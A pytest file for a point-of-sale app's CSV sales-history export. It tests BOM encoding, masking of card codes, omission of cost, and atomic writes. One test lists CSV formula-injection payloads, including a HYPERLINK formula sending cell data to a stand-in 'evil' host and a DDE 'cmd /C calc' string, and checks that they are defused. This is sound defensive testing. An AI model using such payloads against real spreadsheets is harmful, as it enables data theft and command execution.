"""The history's CSV export: bytes Excel reads (BOM), rows equal to the history's, no full
card code unless asked, never the cost, no cell a spreadsheet would run as a formula, and no
half file after a failure."""

from __future__ import annotations

import csv
from datetime import timedelta, timezone
from pathlib import Path

import pytest

from pos_app.domain.sale_states import SaleState
from pos_app.store import CSV_COLUMNS, HistoryFilter, Store, write_history_csv
from pos_app.store.export import partial_path, spreadsheet_text
from tests.store.conftest import Clock
from tests.store.test_history import LTE, add

ALGIERS = timezone(timedelta(hours=1))


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as source:
        return list(csv.reader(source))


@pytest.fixture
def sales(store: Store, clock: Clock) -> list[str]:
    made = [add(store, state=SaleState.FULFILLED, code="1053 8081 0795", cashier="أمينة")]
    clock.advance(minutes=1)
    made.append(add(store, number=LTE, state=SaleState.REFUNDED, counter="T02"))
    clock.advance(minutes=1)
    made.append(add(store, state=SaleState.QUEUED, cashier="yacine"))
    store.record_print(made[0], kind="receipt", target="pdf")
    return made


def test_the_file_starts_with_a_bom_and_reads_back_as_the_history(
    store: Store, sales: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "history.csv"
    assert write_history_csv(store, HistoryFilter(), path, tz=ALGIERS, batch=2) == 3
    assert path.read_bytes().startswith(b"\xef\xbb\xbf" + b"created_at,")
    header, *body = read_csv(path)
    assert header == list(CSV_COLUMNS)
    expected = [
        [
            row.created_at.astimezone(ALGIERS).isoformat(timespec="seconds"),
            row.ref,
            row.line_type.value,
            row.number,
            str(row.face_value),
            str(row.price),
            row.state.value,
            row.code_tail or "",
            row.num_trans or "",
            row.failure_code or "",
            row.cashier,
            row.counter,
            str(row.print_count),
        ]
        for row in store.history_page(HistoryFilter())
    ]
    assert body == expected
    assert [line[1] for line in body] == sales[::-1]  # newest first, across batches of two
    assert body[2][0] == "2026-03-01T10:30:00+01:00"  # local time with its offset
    assert body[2][10] == "أمينة"  # Arabic survives the round trip
    assert body[2][12] == "1"
    assert not partial_path(path).exists()


def test_the_export_follows_the_filter(store: Store, sales: list[str], tmp_path: Path) -> None:
    path = tmp_path / "t02.csv"
    only_t02 = HistoryFilter(counters=frozenset({"T02"}))
    assert write_history_csv(store, only_t02, path) == 1
    assert [line[1] for line in read_csv(path)[1:]] == [sales[1]]
    assert write_history_csv(store, HistoryFilter(text="nothing fits"), path) == 0
    assert read_csv(path) == [list(CSV_COLUMNS)]


def test_the_full_card_code_only_on_request_and_never_the_cost(
    store: Store, sales: list[str], tmp_path: Path
) -> None:
    tail_only, full = tmp_path / "tail.csv", tmp_path / "full.csv"
    write_history_csv(store, HistoryFilter(), tail_only)
    write_history_csv(store, HistoryFilter(), full, full_codes=True)
    text = tail_only.read_text(encoding="utf-8-sig")
    assert "1053" not in text and "0795" in text
    assert read_csv(full)[3][7] == "1053 8081 0795"
    assert [line[7] for line in read_csv(full)[1:3]] == ["", ""]  # no code: empty
    for path in (tail_only, full):
        header, *body = read_csv(path)
        assert not any("cost" in title for title in header)
        assert all("950" not in cell for line in body for cell in line)  # 1000 - 50


def test_headers_can_be_renamed_but_not_invented(
    store: Store, sales: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "ar.csv"
    write_history_csv(store, HistoryFilter(), path, headers={"ref": "المرجع", "price": "السعر"})
    header = read_csv(path)[0]
    assert header[1] == "المرجع" and header[5] == "السعر" and header[0] == "created_at"
    with pytest.raises(ValueError, match="cost"):
        write_history_csv(store, HistoryFilter(), tmp_path / "x.csv", headers={"cost": "c"})
    assert not (tmp_path / "x.csv").exists()


def test_a_failure_leaves_no_partial_file_and_the_old_file_whole(
    store: Store, sales: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "history.csv"
    path.write_bytes(b"yesterday's export")
    real_page = store.history_page
    calls = []

    def failing_page(*args: object, **kwargs: object) -> object:
        calls.append(1)
        if len(calls) == 2:
            assert partial_path(path).exists()  # the export is under way
            raise OSError(28, "No space left on device")
        return real_page(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(store, "history_page", failing_page)
    with pytest.raises(OSError, match="No space"):
        write_history_csv(store, HistoryFilter(), path, batch=1)
    assert len(calls) == 2
    assert not partial_path(path).exists()
    assert path.read_bytes() == b"yesterday's export"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?x"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_from_the_server_never_runs_as_a_formula(
    store: Store, clock: Clock, tmp_path: Path, text: str
) -> None:
    ref = add(store, state=SaleState.SENDING)
    store.transition(ref, SaleState.SENDING, SaleState.ACCEPTED, "test")
    store.transition(
        ref, SaleState.ACCEPTED, SaleState.FULFILLED, "test", card_code="1234", num_trans=text
    )
    failed = add(store, state=SaleState.SENDING)
    store.transition(failed, SaleState.SENDING, SaleState.REJECTED, "test", failure_code=text)
    path = tmp_path / "history.csv"
    write_history_csv(store, HistoryFilter(), path, headers={"ref": "=ref"})
    header, *body = read_csv(path)
    by_ref = {line[1]: line for line in body}
    assert by_ref[ref][8] == "'" + text  # shown as the text it is, never run
    assert by_ref[failed][9] == "'" + text
    assert header[1] == "'=ref"
    assert by_ref[ref][4:6] == ["1000", "1000"]  # our own numbers stay numbers
    assert by_ref[ref][12] == "0"


def test_plain_text_and_numbers_are_left_as_they_are() -> None:
    for text in ("NT-2026-001", "036362608", "أمينة", "", "a=b", "C1-20260301T093000-1"):
        assert spreadsheet_text(text) == text
